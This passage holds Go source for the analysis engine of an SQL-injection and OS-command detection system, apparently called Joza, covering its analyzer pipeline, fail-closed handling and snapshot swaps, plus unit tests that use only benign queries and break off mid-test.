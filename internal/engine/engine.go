// Package engine is the hybrid decision procedure behind every Joza
// interposition point. The paper's Figure 5 architecture has one analysis
// pipeline reached from many front doors — the in-process Guard, the
// daemon-backed remote hybrid, the database proxy, the web-framework query
// wrapper and the OS-command guard — and this package is that single
// pipeline: a context-aware Check over an ordered list of pluggable
// analyzers, with one post-verdict recording path for metrics, traces and
// the audit log.
//
// # Snapshots
//
// An Engine runs every check against an immutable Snapshot: the analyzer
// stages plus the handles behind them (fragment set, matchers, caches).
// Snapshots are swapped atomically by Swap — the preprocessing component
// uses this when the application's source tree changes — so reloads never
// take a lock on the hot path: a check loads the snapshot pointer once and
// keeps it for the whole analysis, while in-flight checks finish on the
// snapshot they started with.
//
// # Context
//
// Check accepts a context.Context and threads it into every stage.
// Analyzers are expected to poll it at natural checkpoints (the NTI
// matcher's banded DP loop, the PTI cover loop, transport round trips) and
// return its error promptly, so per-request deadlines and cancellation
// work end to end. Callers without deadline requirements pass
// context.Background(); on that path the polling is a no-op nil check and
// the steady-state cache-hit pipeline performs zero heap allocations.
package engine

import (
	"context"
	"errors"
	"fmt"
	"runtime/debug"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/audit"
	"joza/internal/core"
	"joza/internal/fragments"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/profile"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// Request is one check: the statement under analysis plus the originating
// request's captured raw inputs.
type Request struct {
	// Query is the SQL statement (or, for the oscmd pipeline, the shell
	// command line) about to execute.
	Query string
	// Inputs are the raw application inputs captured at request entry.
	Inputs []nti.Input
	// Site identifies the database call site issuing the query (e.g.
	// "plugin:gd-star-rating" or a caller-chosen key). Consumed by the
	// query-skeleton profile stage; empty means the call site is unknown
	// and that stage skips the check.
	Site string
	// Dialect is the SQL dialect the query will execute under. The zero
	// value is sqltoken.MySQL. It must match the snapshot's dialect: the
	// engine refuses to analyze a request under analyzers built for a
	// different dialect (the token boundaries would be wrong), resolving
	// the mismatch through the failure mode instead of running any stage.
	Dialect sqltoken.Dialect
}

// State is the per-check scratch shared by the stages of one pipeline run:
// the lazily-produced token stream, the trace span, and flags the
// post-verdict recording path consumes. A State is owned by exactly one
// Check call; stages must not retain it.
type State struct {
	span *trace.Span

	// tokens is the shared SQL token stream; nil until a stage lexes (or a
	// tokenSource is realized). tokenSource defers an expensive conversion
	// (e.g. decoding a daemon reply's token stream) until a later stage
	// actually asks for tokens.
	tokens      []sqltoken.Token
	haveTokens  bool
	tokenSource func() []sqltoken.Token

	// aux carries analyzer-family-specific shared state, such as the shell
	// token stream of the oscmd pipeline.
	aux any

	// degraded marks a check served without a remote analyzer's verdict
	// because its backend was unreachable.
	degraded bool
}

// Span returns the check's trace span (nil when the check is not sampled;
// all Span recording methods are nil-safe).
func (st *State) Span() *trace.Span { return st.span }

// Tokens returns the shared token stream, realizing a deferred token
// source if one was published. Nil means no stage has lexed yet: the
// caller may lex lazily and should then PublishTokens for later stages.
func (st *State) Tokens() []sqltoken.Token {
	if !st.haveTokens && st.tokenSource != nil {
		st.tokens = st.tokenSource()
		st.haveTokens = true
		st.tokenSource = nil
	}
	return st.tokens
}

// PublishTokens shares a lexed token stream with later stages. Publishing
// nil is a no-op, so stages can pass through their possibly-empty lex
// result unconditionally.
func (st *State) PublishTokens(toks []sqltoken.Token) {
	if toks == nil {
		return
	}
	st.tokens = toks
	st.haveTokens = true
	st.tokenSource = nil
}

// PublishTokenSource defers token production until a later stage calls
// Tokens — used by remote stages whose wire reply carries a token stream
// that is only worth decoding when an NTI stage will actually run.
func (st *State) PublishTokenSource(f func() []sqltoken.Token) {
	if st.haveTokens {
		return
	}
	st.tokenSource = f
}

// Aux returns the pipeline-family scratch value set by SetAux.
func (st *State) Aux() any { return st.aux }

// SetAux stores a pipeline-family scratch value (e.g. a shell token
// stream) shared between stages of one check.
func (st *State) SetAux(v any) { st.aux = v }

// MarkDegraded records that a stage served its result without reaching its
// backend; the engine counts the check as degraded and flags the span.
func (st *State) MarkDegraded() {
	st.degraded = true
	st.span.SetDegraded()
}

// reset clears the State for pool reuse.
func (st *State) reset() {
	*st = State{}
}

// statePool recycles per-check State values so the steady-state pipeline
// allocates nothing: passing a *State through the Analyzer interface makes
// it escape, and without the pool every Check would heap-allocate one.
var statePool = sync.Pool{New: func() any { return new(State) }}

// Analyzer is one pluggable stage of the pipeline.
//
// A stage analyzes the request, may consume and publish shared state (the
// token stream, the trace span), and returns its per-analyzer Result. An
// error aborts the pipeline: no verdict is recorded and Check returns the
// error — stages surface ctx.Err() when canceled, and transport-backed
// stages surface backend failures their degradation policy does not
// absorb.
type Analyzer interface {
	// Name slots the stage's Result into the Verdict: core.AnalyzerNTI or
	// core.AnalyzerPTI. Unknown names contribute to the hybrid attack
	// decision but occupy no Verdict slot.
	Name() string
	// Analyze examines the request. st is never nil; ctx is never nil.
	Analyze(ctx context.Context, req Request, st *State) (core.Result, error)
}

// Snapshot is the immutable analysis state one check runs over: the stage
// list plus the typed handles behind the stages, kept for stats and
// introspection. Build a Snapshot, hand it to New or Swap, and never
// mutate it afterwards.
type Snapshot struct {
	// Analyzers are the pipeline stages, run in order.
	Analyzers []Analyzer

	// Dialect is the SQL dialect every analyzer in this snapshot lexes
	// under. The zero value is sqltoken.MySQL. Requests carrying a
	// different dialect are refused through the failure mode rather than
	// analyzed with the wrong token boundaries.
	Dialect sqltoken.Dialect

	// Set is the trusted fragment set behind the PTI stage (may be nil for
	// pipelines without fragment-based analysis).
	Set *fragments.Set
	// NTI and PTI expose the concrete analyzers for stats endpoints; nil
	// when the snapshot has no such stage.
	NTI *nti.Analyzer
	PTI *pti.Cached
	// Profiles is the per-call-site query-skeleton store behind a
	// ProfileStage; nil without one. Exposed for stats endpoints.
	Profiles *profile.Store

	// Version is the content-derived version of this snapshot (see
	// ComputeVersion); empty for unversioned snapshots. Stamped on every
	// verdict the snapshot produces so each check is attributable to
	// exactly one policy generation even across live reloads.
	Version string
}

// FailureMode selects how the engine resolves a check whose analysis
// could not complete safely: a recovered analyzer-stage panic or a blown
// cost budget. Context cancellation is not a failure — it propagates to
// the caller with no verdict, as before.
type FailureMode int

const (
	// FailClosed (the default) treats the unanalyzable query as an
	// attack: nothing executes unverified, at the cost of availability
	// for the affected queries.
	FailClosed FailureMode = iota
	// FailOpen serves the verdict of the stages that completed, treating
	// the failed stage as if it found nothing. The request path stays up
	// at the cost of that stage's coverage.
	FailOpen
)

// String names the mode for logs and flags.
func (m FailureMode) String() string {
	if m == FailOpen {
		return "fail-open"
	}
	return "fail-closed"
}

// Limits bounds the work one check may demand before any stage runs.
// Zero fields are unlimited.
type Limits struct {
	// MaxQueryBytes fails checks whose query exceeds this size.
	MaxQueryBytes int
	// MaxInputBytes fails checks whose captured input values sum to more
	// than this many bytes.
	MaxInputBytes int
}

// stagePanic carries a recovered analyzer panic out of runStage so Check
// can convert it into a failure-mode verdict.
type stagePanic struct {
	stage string
	value any
	stack []byte
}

// Error implements the error interface.
func (p *stagePanic) Error() string {
	return fmt.Sprintf("analyzer stage %s panicked: %v", p.stage, p.value)
}

// Engine runs the hybrid pipeline. The long-lived parts — metrics
// collector, tracer, audit log, policy — belong to the Engine and survive
// snapshot swaps; the analysis state belongs to the Snapshot.
type Engine struct {
	snap      atomic.Pointer[Snapshot]
	collector *metrics.Collector
	tracer    *trace.Tracer
	auditLog  *audit.Logger
	policy    core.Policy
	failMode  FailureMode
	limits    Limits
}

// Option configures an Engine.
type Option func(*Engine)

// WithCollector records verdicts into c (shared, for example, across the
// rebuilds of a Manager). By default the Engine creates its own.
func WithCollector(c *metrics.Collector) Option {
	return func(e *Engine) { e.collector = c }
}

// WithTracer samples checks into t's rings. A nil tracer (the default)
// disables tracing at zero cost.
func WithTracer(t *trace.Tracer) Option {
	return func(e *Engine) { e.tracer = t }
}

// WithAuditLogger writes one audit record per blocked query to l.
func WithAuditLogger(l *audit.Logger) Option {
	return func(e *Engine) { e.auditLog = l }
}

// WithPolicy sets the recovery policy stamped on audit records (default
// core.PolicyTerminate).
func WithPolicy(p core.Policy) Option {
	return func(e *Engine) { e.policy = p }
}

// WithFailureMode sets how checks whose analysis fails — a stage panic or
// a blown cost budget — resolve (default FailClosed).
func WithFailureMode(m FailureMode) Option {
	return func(e *Engine) { e.failMode = m }
}

// WithLimits bounds per-check work before any stage runs; over-limit
// checks resolve through the failure mode and count as over-budget.
func WithLimits(l Limits) Option {
	return func(e *Engine) { e.limits = l }
}

// New builds an Engine over the initial snapshot.
func New(snap *Snapshot, opts ...Option) *Engine {
	e := &Engine{policy: core.PolicyTerminate}
	e.snap.Store(snap)
	for _, o := range opts {
		o(e)
	}
	if e.collector == nil {
		e.collector = metrics.NewCollector()
	}
	return e
}

// Snapshot returns the current snapshot. In-flight checks may still be
// running over an older one.
func (e *Engine) Snapshot() *Snapshot { return e.snap.Load() }

// Swap atomically replaces the snapshot. The hot path takes no lock:
// checks that already loaded the old snapshot finish on it, and the next
// Check picks up the new one.
func (e *Engine) Swap(snap *Snapshot) { e.snap.Store(snap) }

// Collector returns the engine's metrics collector.
func (e *Engine) Collector() *metrics.Collector { return e.collector }

// Tracer returns the engine's tracer (nil when tracing is disabled).
func (e *Engine) Tracer() *trace.Tracer { return e.tracer }

// Policy returns the engine's recovery policy.
func (e *Engine) Policy() core.Policy { return e.policy }

// FailureMode returns the engine's analysis-failure mode.
func (e *Engine) FailureMode() FailureMode { return e.failMode }

// Check runs the pipeline for one request and returns the hybrid verdict:
// the request is an attack iff any stage flags it. ctx threads into every
// stage; a canceled or expired context surfaces as a context error with no
// verdict recorded. Callers without deadlines pass context.Background().
//
// Analysis failures are contained rather than propagated: a stage that
// panics or exceeds a cost budget (Limits, or an analyzer's own budget
// surfacing core.ErrOverBudget) resolves through the configured
// FailureMode — fail-closed synthesizes an attack verdict for that stage,
// fail-open serves the remaining stages' verdict — with the event counted
// in the collector and captured in a notable trace span.
func (e *Engine) Check(ctx context.Context, req Request) (core.Verdict, error) {
	if err := ctx.Err(); err != nil {
		return core.Verdict{}, err
	}
	snap := e.snap.Load()
	span := e.tracer.Start(req.Query)
	var start time.Time
	sampled := e.collector.SampleLatency()
	if sampled {
		start = time.Now()
	}
	st := statePool.Get().(*State)
	st.span = span
	// Pre-fill the per-analyzer slots so pipelines with a disabled or
	// absent stage still report a labeled empty Result, exactly as the
	// hand-rolled front doors did.
	v := core.Verdict{
		Query:   req.Query,
		NTI:     core.Result{Analyzer: core.AnalyzerNTI},
		PTI:     core.Result{Analyzer: core.AnalyzerPTI},
		Version: snap.Version,
	}
	attack := false
	detail := e.overLimits(req)
	if detail == "" && req.Dialect != snap.Dialect {
		// Analyzing a request under analyzers built for another dialect
		// would draw the string/code boundary wrong — exactly the
		// syntax-confusion hazard dialects exist to close — so the
		// mismatch is refused like any other unanalyzable request.
		detail = fmt.Sprintf("request dialect %s does not match analyzer dialect %s",
			req.Dialect, snap.Dialect)
	}
	if detail != "" {
		// The request blew a pre-analysis limit: no stage runs at all.
		e.collector.RecordOverBudget()
		e.ensureSpan(st, req)
		st.span.SetOverBudget(detail)
		if e.failMode == FailClosed {
			attack = true
			v.PTI.Attack = true
			v.PTI.Reasons = []core.Reason{{Detail: detail + " (fail-closed)"}}
		}
		v.Attack = attack
		e.record(&v, req, st, sampled, start)
		st.reset()
		statePool.Put(st)
		return v, nil
	}
	for _, a := range snap.Analyzers {
		res, err := e.runStage(ctx, a, req, st)
		if err != nil {
			var sp *stagePanic
			switch {
			case errors.As(err, &sp):
				e.collector.RecordPanic()
				e.ensureSpan(st, req)
				st.span.SetPanic(fmt.Sprintf("stage %s: %v\n%s", sp.stage, sp.value, sp.stack))
				res = e.failureResult(a.Name(), fmt.Sprintf("analyzer %s panicked (%s): %v", sp.stage, e.failMode, sp.value))
			case errors.Is(err, core.ErrOverBudget) && ctx.Err() == nil:
				e.collector.RecordOverBudget()
				e.ensureSpan(st, req)
				st.span.SetOverBudget(err.Error())
				res = e.failureResult(a.Name(), fmt.Sprintf("analysis over budget (%s): %v", e.failMode, err))
			default:
				// Context errors and transport failures the stage's own
				// degradation policy did not absorb: no verdict.
				st.reset()
				statePool.Put(st)
				return core.Verdict{}, err
			}
		}
		attack = attack || res.Attack
		switch a.Name() {
		case core.AnalyzerNTI:
			v.NTI = res
		case core.AnalyzerPTI:
			v.PTI = res
		case core.AnalyzerProfile:
			v.Profile = res
		}
	}
	v.Attack = attack
	e.record(&v, req, st, sampled, start)
	st.reset()
	statePool.Put(st)
	return v, nil
}

// runStage executes one analyzer with panic isolation: a panicking stage
// surfaces as a *stagePanic error instead of unwinding the server.
func (e *Engine) runStage(ctx context.Context, a Analyzer, req Request, st *State) (res core.Result, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = &stagePanic{stage: a.Name(), value: r, stack: debug.Stack()}
		}
	}()
	return a.Analyze(ctx, req, st)
}

// overLimits reports why req exceeds the engine's pre-analysis limits, or
// "" when it is within them. With zero Limits this is two compares.
func (e *Engine) overLimits(req Request) string {
	if e.limits.MaxQueryBytes > 0 && len(req.Query) > e.limits.MaxQueryBytes {
		return fmt.Sprintf("query %d bytes exceeds limit %d", len(req.Query), e.limits.MaxQueryBytes)
	}
	if e.limits.MaxInputBytes > 0 {
		total := 0
		for _, in := range req.Inputs {
			total += len(in.Value)
		}
		if total > e.limits.MaxInputBytes {
			return fmt.Sprintf("inputs %d bytes exceed limit %d", total, e.limits.MaxInputBytes)
		}
	}
	return ""
}

// ensureSpan forces a trace span onto a check the sampler skipped, so
// exceptional events are always captured (no-op when tracing is off).
func (e *Engine) ensureSpan(st *State, req Request) {
	if st.span == nil {
		st.span = e.tracer.StartAlways(req.Query)
	}
}

// failureResult synthesizes the failed stage's result per the failure
// mode: fail-closed flags an attack carrying detail as the reason,
// fail-open reports a clean empty result.
func (e *Engine) failureResult(name, detail string) core.Result {
	r := core.Result{Analyzer: name}
	if e.failMode == FailClosed {
		r.Attack = true
		r.Reasons = []core.Reason{{Detail: detail}}
	}
	return r
}

// record is the single post-verdict recording path shared by every front
// door: check counters (and the degraded counter), latency sampling, span
// completion with per-stage histograms, and the audit log for attacks.
func (e *Engine) record(v *core.Verdict, req Request, st *State, sampled bool, start time.Time) {
	if st.degraded {
		e.collector.RecordDegraded()
	}
	elapsed := time.Duration(-1)
	if sampled {
		elapsed = time.Since(start)
	}
	e.collector.RecordCheck(v.NTI.Attack, v.PTI.Attack, v.Profile.Attack, elapsed)
	if span := st.span; span != nil {
		span.SetVerdict(v.NTI.Attack, v.PTI.Attack, v.Profile.Attack)
		e.tracer.Finish(span)
		// Stage histograms are fed only from traced checks so the untraced
		// hot path never reads the clock per stage.
		e.collector.ObserveStageDurations(span.LexNs, span.PTICoverNs, span.NTIMatchNs, span.NTIPrefilterNs, span.ProfileNs)
	}
	if v.Attack && e.auditLog != nil {
		e.auditLog.Log(*v, e.policy, req.Inputs)
	}
}

// Authorize runs Check and converts an attack verdict into the
// *core.AttackError every front door returns to its callers.
func (e *Engine) Authorize(ctx context.Context, req Request) error {
	v, err := e.Check(ctx, req)
	if err != nil {
		return err
	}
	if !v.Attack {
		return nil
	}
	return &core.AttackError{Verdict: v, Policy: e.policy}
}
