package engine

import (
	"context"
	"strings"
	"testing"

	"joza/internal/core"
	"joza/internal/sqltoken"
)

// TestCheckRefusesDialectMismatch pins the engine-level backstop: a
// request carrying a dialect other than the snapshot's never reaches any
// stage, resolving through the failure mode instead.
func TestCheckRefusesDialectMismatch(t *testing.T) {
	ran := false
	probe := Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
		ran = true
		return core.Result{Analyzer: core.AnalyzerPTI}, nil
	}}

	t.Run("fail-closed", func(t *testing.T) {
		e := New(&Snapshot{Analyzers: []Analyzer{probe}, Dialect: sqltoken.MySQL})
		v, err := e.Check(context.Background(), Request{Query: "SELECT 1", Dialect: sqltoken.Postgres})
		if err != nil {
			t.Fatal(err)
		}
		if ran {
			t.Error("stage ran despite dialect mismatch")
		}
		if !v.Attack {
			t.Error("fail-closed mismatch must synthesize an attack verdict")
		}
		if len(v.PTI.Reasons) == 0 || !strings.Contains(v.PTI.Reasons[0].Detail, "dialect") {
			t.Errorf("reason should name the mismatch, got %+v", v.PTI.Reasons)
		}
	})

	t.Run("fail-open", func(t *testing.T) {
		ran = false
		e := New(&Snapshot{Analyzers: []Analyzer{probe}, Dialect: sqltoken.MySQL}, WithFailureMode(FailOpen))
		v, err := e.Check(context.Background(), Request{Query: "SELECT 1", Dialect: sqltoken.Postgres})
		if err != nil {
			t.Fatal(err)
		}
		if ran {
			t.Error("stage ran despite dialect mismatch")
		}
		if v.Attack {
			t.Error("fail-open mismatch must not flag")
		}
	})
}

// TestCheckMatchingDialectRuns pins that matched (and default zero-value)
// dialects analyze normally.
func TestCheckMatchingDialectRuns(t *testing.T) {
	for _, d := range sqltoken.Dialects() {
		ran := false
		probe := Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			ran = true
			return core.Result{Analyzer: core.AnalyzerPTI}, nil
		}}
		e := New(&Snapshot{Analyzers: []Analyzer{probe}, Dialect: d})
		if _, err := e.Check(context.Background(), Request{Query: "SELECT 1", Dialect: d}); err != nil {
			t.Fatal(err)
		}
		if !ran {
			t.Errorf("dialect %v: stage did not run", d)
		}
	}
	// Zero values on both sides mean MySQL and must keep working untouched.
	ran := false
	e := New(&Snapshot{Analyzers: []Analyzer{Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
		ran = true
		return core.Result{Analyzer: core.AnalyzerPTI}, nil
	}}}})
	if _, err := e.Check(context.Background(), Request{Query: "SELECT 1"}); err != nil {
		t.Fatal(err)
	}
	if !ran {
		t.Error("zero-dialect request refused by zero-dialect snapshot")
	}
}

// TestMismatchCountsOverBudget pins that refused mismatches are visible in
// the collector rather than silent.
func TestMismatchCountsOverBudget(t *testing.T) {
	e := New(&Snapshot{Dialect: sqltoken.MySQL})
	if _, err := e.Check(context.Background(), Request{Query: "x", Dialect: sqltoken.SQLite}); err != nil {
		t.Fatal(err)
	}
	if got := e.Collector().Snapshot().OverBudgetChecks; got != 1 {
		t.Errorf("OverBudgetChecks = %d, want 1", got)
	}
}
