package engine

import (
	"context"
	"errors"
	"testing"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/sqltoken"
)

// stage builds a Func stage returning a fixed result.
func stage(name string, attack bool) Func {
	return Func{
		StageName: name,
		Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			return core.Result{Analyzer: name, Attack: attack}, nil
		},
	}
}

func TestCheckFoldsStageVerdicts(t *testing.T) {
	cases := []struct {
		name    string
		ptiHit  bool
		ntiHit  bool
		wantAtk bool
	}{
		{"both benign", false, false, false},
		{"pti flags", true, false, true},
		{"nti flags", false, true, true},
		{"both flag", true, true, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := New(&Snapshot{Analyzers: []Analyzer{
				stage(core.AnalyzerPTI, tc.ptiHit),
				stage(core.AnalyzerNTI, tc.ntiHit),
			}})
			v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
			if err != nil {
				t.Fatal(err)
			}
			if v.Attack != tc.wantAtk {
				t.Errorf("Attack = %v, want %v", v.Attack, tc.wantAtk)
			}
			if v.PTI.Attack != tc.ptiHit || v.NTI.Attack != tc.ntiHit {
				t.Errorf("slots = PTI %v NTI %v", v.PTI.Attack, v.NTI.Attack)
			}
		})
	}
}

func TestCheckLabelsEmptySlots(t *testing.T) {
	// A pipeline with no NTI stage still reports a labeled empty NTI result.
	e := New(&Snapshot{Analyzers: []Analyzer{stage(core.AnalyzerPTI, false)}})
	v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatal(err)
	}
	if v.NTI.Analyzer != core.AnalyzerNTI || v.PTI.Analyzer != core.AnalyzerPTI {
		t.Errorf("labels = %q, %q", v.NTI.Analyzer, v.PTI.Analyzer)
	}
}

func TestCheckUnknownStageNameFeedsAttackOnly(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{stage("shell", true)}})
	v, err := e.Check(context.Background(), Request{Query: "x"})
	if err != nil {
		t.Fatal(err)
	}
	if !v.Attack {
		t.Error("unknown stage's attack verdict must count")
	}
	if v.NTI.Attack || v.PTI.Attack {
		t.Error("unknown stage must not occupy a slot")
	}
}

func TestCheckPreCanceledContext(t *testing.T) {
	ran := false
	e := New(&Snapshot{Analyzers: []Analyzer{Func{
		StageName: core.AnalyzerPTI,
		Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			ran = true
			return core.Result{}, nil
		},
	}}})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := e.Check(ctx, Request{Query: "SELECT 1"})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if ran {
		t.Error("no stage should run under a pre-canceled context")
	}
	if n := e.Collector().Snapshot().Checks; n != 0 {
		t.Errorf("canceled check recorded %d checks", n)
	}
}

func TestCheckStageErrorRecordsNothing(t *testing.T) {
	boom := errors.New("boom")
	e := New(&Snapshot{Analyzers: []Analyzer{Func{
		StageName: core.AnalyzerPTI,
		Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			return core.Result{}, boom
		},
	}}})
	if _, err := e.Check(context.Background(), Request{Query: "x"}); !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
	if n := e.Collector().Snapshot().Checks; n != 0 {
		t.Errorf("failed check recorded %d checks", n)
	}
}

func TestCheckRecordsMetricsAndDegraded(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{Func{
		StageName: core.AnalyzerPTI,
		Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			st.MarkDegraded()
			return core.Result{Analyzer: core.AnalyzerPTI, Attack: true}, nil
		},
	}}})
	if _, err := e.Check(context.Background(), Request{Query: "x"}); err != nil {
		t.Fatal(err)
	}
	snap := e.Collector().Snapshot()
	if snap.Checks != 1 || snap.PTIAttacks != 1 || snap.DegradedChecks != 1 {
		t.Errorf("snapshot = checks %d pti %d degraded %d",
			snap.Checks, snap.PTIAttacks, snap.DegradedChecks)
	}
}

func TestSwapChangesNextCheck(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{stage(core.AnalyzerPTI, true)}})
	v, _ := e.Check(context.Background(), Request{Query: "x"})
	if !v.Attack {
		t.Fatal("old snapshot should flag")
	}
	e.Swap(&Snapshot{Analyzers: []Analyzer{stage(core.AnalyzerPTI, false)}})
	v, _ = e.Check(context.Background(), Request{Query: "x"})
	if v.Attack {
		t.Error("new snapshot should not flag")
	}
}

func TestStateTokenSharing(t *testing.T) {
	toks := []sqltoken.Token{{Kind: sqltoken.KindNumber, Text: "1"}}
	var got []sqltoken.Token
	e := New(&Snapshot{Analyzers: []Analyzer{
		Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			st.PublishTokens(toks)
			return core.Result{}, nil
		}},
		Func{StageName: core.AnalyzerNTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			got = st.Tokens()
			return core.Result{}, nil
		}},
	}})
	if _, err := e.Check(context.Background(), Request{Query: "1"}); err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Text != "1" {
		t.Errorf("shared tokens = %v", got)
	}
}

func TestStateTokenSourceDeferred(t *testing.T) {
	decoded := 0
	e := New(&Snapshot{Analyzers: []Analyzer{
		Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, req Request, st *State) (core.Result, error) {
			st.PublishTokenSource(func() []sqltoken.Token {
				decoded++
				return []sqltoken.Token{{Text: "t"}}
			})
			return core.Result{}, nil
		}},
	}})
	// No consumer: the source must never be realized.
	if _, err := e.Check(context.Background(), Request{Query: "x"}); err != nil {
		t.Fatal(err)
	}
	if decoded != 0 {
		t.Errorf("token source decoded %d times without a consumer", decoded)
	}
}

func TestAuthorizeReturnsAttackError(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{stage(core.AnalyzerPTI, true)}})
	err := e.Authorize(context.Background(), Request{Query: "x"})
	var ae *core.AttackError
	if !errors.As(err, &ae) {
		t.Fatalf("err = %v (%T), want *core.AttackError", err, err)
	}
	e.Swap(&Snapshot{Analyzers: []Analyzer{stage(core.AnalyzerPTI, false)}})
	if err := e.Authorize(context.Background(), Request{Query: "x"}); err != nil {
		t.Fatalf("benign authorize err = %v", err)
	}
}

func TestNTIStageSkipsWithoutInputValues(t *testing.T) {
	// The NTI stage must not touch the analyzer when every input is empty;
	// a nil analyzer would panic if it did.
	s := NTIStage{Analyzer: nil}
	res, err := s.Analyze(context.Background(), Request{
		Query:  "SELECT 1",
		Inputs: []nti.Input{{Source: "get", Name: "id", Value: ""}},
	}, &State{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Attack || res.Analyzer != core.AnalyzerNTI {
		t.Errorf("res = %+v", res)
	}
}
