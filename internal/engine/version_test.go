package engine

import (
	"context"
	"strings"
	"testing"

	"joza/internal/fragments"
	"joza/internal/profile"
	"joza/internal/sqltoken"
)

func TestComputeVersionDeterministicAndShaped(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT a FROM t WHERE id=", " LIMIT "})
	v1 := ComputeVersion(set, nil, sqltoken.MySQL, "q0:t0")
	v2 := ComputeVersion(set, nil, sqltoken.MySQL, "q0:t0")
	if v1 != v2 {
		t.Fatalf("same inputs gave %q and %q", v1, v2)
	}
	if len(v1) != VersionLen {
		t.Fatalf("version %q has length %d, want %d", v1, len(v1), VersionLen)
	}
	if strings.Trim(v1, "0123456789abcdef") != "" {
		t.Fatalf("version %q is not lowercase hex", v1)
	}
}

func TestComputeVersionOrderInsensitiveOverFragments(t *testing.T) {
	a := fragments.NewSet([]string{"SELECT a FROM t WHERE id=", " LIMIT ", "DELETE FROM t WHERE id="})
	b := fragments.NewSet([]string{" LIMIT ", "DELETE FROM t WHERE id=", "SELECT a FROM t WHERE id="})
	if va, vb := ComputeVersion(a, nil, sqltoken.MySQL, ""), ComputeVersion(b, nil, sqltoken.MySQL, ""); va != vb {
		t.Fatalf("extraction order changed the version: %q vs %q", va, vb)
	}
}

// TestComputeVersionSensitivity: every input that changes what the
// pipeline decides must change the version — fragments, profile store,
// dialect and the limits tag — while nil set/store hash as empty.
func TestComputeVersionSensitivity(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT a FROM t WHERE id="})
	rec := profile.NewRecorderDialect(sqltoken.MySQL)
	rec.Record("app.php:10", "SELECT a FROM t WHERE id=5")
	base := ComputeVersion(set, nil, sqltoken.MySQL, "q0:t0")

	variants := map[string]string{
		"fragment added": ComputeVersion(
			fragments.NewSet([]string{"SELECT a FROM t WHERE id=", " OR name="}), nil, sqltoken.MySQL, "q0:t0"),
		"profiles trained": ComputeVersion(set, rec.Store(), sqltoken.MySQL, "q0:t0"),
		"dialect changed":  ComputeVersion(set, nil, sqltoken.Postgres, "q0:t0"),
		"limits changed":   ComputeVersion(set, nil, sqltoken.MySQL, "q4096:t128"),
		"nil set":          ComputeVersion(nil, nil, sqltoken.MySQL, "q0:t0"),
	}
	seen := map[string]string{base: "base"}
	for name, v := range variants {
		if prev, dup := seen[v]; dup {
			t.Errorf("%s collides with %s: %q", name, prev, v)
		}
		seen[v] = name
	}
}

func TestComputeVersionNilInputsStable(t *testing.T) {
	v1 := ComputeVersion(nil, nil, sqltoken.MySQL, "")
	v2 := ComputeVersion(nil, nil, sqltoken.MySQL, "")
	if v1 != v2 || len(v1) != VersionLen {
		t.Fatalf("nil inputs not stable: %q vs %q", v1, v2)
	}
}

// TestSnapshotVersionStampedOnVerdicts: a versioned snapshot stamps its
// version on every verdict it serves; an unversioned one leaves the field
// empty — pre-versioning callers see the exact struct they always did.
func TestSnapshotVersionStampedOnVerdicts(t *testing.T) {
	eng := New(&Snapshot{Version: "feedfacefeedface"})
	v, err := eng.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatal(err)
	}
	if v.Version != "feedfacefeedface" {
		t.Fatalf("verdict version = %q, want the snapshot's", v.Version)
	}
	unversioned := New(&Snapshot{})
	uv, err := unversioned.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatal(err)
	}
	if uv.Version != "" {
		t.Fatalf("unversioned snapshot stamped %q", uv.Version)
	}
}
