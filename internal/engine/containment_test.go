package engine

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/trace"
)

// panicStage always panics; okStage reports a clean result.
func panicStage(name string) Func {
	return Func{StageName: name, Fn: func(context.Context, Request, *State) (core.Result, error) {
		panic("injected fault")
	}}
}

func okStage(name string) Func {
	return Func{StageName: name, Fn: func(context.Context, Request, *State) (core.Result, error) {
		return core.Result{Analyzer: name}, nil
	}}
}

func TestPanicFailClosed(t *testing.T) {
	tr := trace.New(trace.Config{SampleEvery: 1 << 30}) // sampler skips everything
	e := New(&Snapshot{Analyzers: []Analyzer{panicStage(core.AnalyzerPTI), okStage(core.AnalyzerNTI)}},
		WithTracer(tr))
	v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatalf("Check surfaced the panic as an error: %v", err)
	}
	if !v.Attack || !v.PTI.Attack {
		t.Fatalf("fail-closed panic verdict = %+v, want PTI attack", v)
	}
	if len(v.PTI.Reasons) == 0 || !strings.Contains(v.PTI.Reasons[0].Detail, "panicked") {
